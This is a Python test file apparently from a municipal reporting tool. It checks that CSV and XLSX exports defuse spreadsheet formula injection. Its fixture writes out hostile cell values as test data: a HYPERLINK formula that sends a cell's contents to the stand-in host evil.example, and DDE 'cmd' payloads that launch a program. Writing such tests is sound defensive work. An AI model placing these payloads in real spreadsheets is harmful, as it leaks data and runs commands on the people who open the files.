"""A report's texts reach the city's spreadsheets (issue 20): a unit that types a section
beginning with ``=HYPERLINK(…)`` or ``+cmd|' /C calc'!A0`` must not hand the officer who opens
the export a live formula. Each dangerous first character, exported to CSV and to XLSX and read
back: no cell is a formula, the words are all there, and numbers are still numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest

from cchc.services import reports as rs
from cchc.services.report_output import write_export
from cchc.services.workspace import Workspace

NOON = dt.datetime(2026, 4, 20, 2, 0, tzinfo=dt.UTC)
HOSTILE = {
    "I": '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")',
    "II": "+cmd|' /C calc'!A0",
    "III": "-2+3+cmd|' /C calc'!A0",
    "IV": "@SUM(1+1)*cmd|' /C calc'!A0",
    "V": "\t=1+1",
    "VI": "\r=1+1",
    "VII": "＝1+1",
}
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
FORMULA_START = re.compile(r"^[=+\-@\t\r＝＋－＠]")


@pytest.fixture
def report(db_path: Path) -> tuple[Workspace, str]:
    ws = Workspace.open(db_path, clock=lambda: NOON)
    made = rs.new_report(ws, unit="tthcc", period="2026-Q1", by="A")
    rs.set_report(ws, made.id, fields={"received_direct": "120", "resolved_on_time": "118"})
    for area, text in HOSTILE.items():  # as another laptop's bundle would bring them
        ws.db.conn.execute(
            "INSERT INTO report_sections (id, report_id, area, text, updated_at) "
            "VALUES (?, ?, ?, ?, '2026-04-20T09:00:00+07:00')",
            (f"s{area}", made.id, area, text),
        )
    yield ws, made.id
    ws.close()


def test_no_csv_cell_starts_like_a_formula_and_numbers_stay_numbers(report, tmp_path) -> None:
    ws, report_id = report
    out = write_export(ws, report_id, tmp_path / "bao-cao.csv")
    raw = out.read_bytes().decode("utf-8-sig")  # line ends as written (a CR inside a cell)
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if FORMULA_START.match(c)]
    for text in HOSTILE.values():
        assert "'" + text in cells  # the words kept, behind the apostrophe
    figures = {row[1]: row[3] for row in rows if len(row) > 3}
    assert figures["received_direct"] == "120"
    assert ",120\r\n" in raw  # unquoted: a number the spreadsheet reads as one


def test_no_xlsx_cell_is_a_formula_and_numbers_stay_numbers(report, tmp_path) -> None:
    ws, report_id = report
    out = write_export(ws, report_id, tmp_path / "bao-cao.xlsx")
    with zipfile.ZipFile(out) as z:
        sheet = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
        shared = [  # Office's escape of a control character (_x000D_) read back
            re.sub(
                "_x([0-9A-F]{4})_",
                lambda m: chr(int(m.group(1), 16)),
                "".join(t.text or "" for t in si.iterfind(".//m:t", NS)),
            )
            for si in ET.fromstring(z.read("xl/sharedStrings.xml")).iterfind("m:si", NS)
        ]
        styles = z.read("xl/styles.xml").decode("utf-8")
    cells = list(sheet.iterfind(".//m:c", NS))
    assert not [c for c in cells if c.find("m:f", NS) is not None]  # no formula element
    assert {c.get("t") for c in cells} <= {"s", None}  # text is shared strings, else numbers
    for text in HOSTILE.values():
        assert text in shared  # kept as typed, as a string cell
    numbers = [c for c in cells if c.get("t") is None]
    assert "120" in {c.findtext("m:v", namespaces=NS) for c in numbers}
    assert "[$-42A]#,##0" in styles  # Vietnamese number format
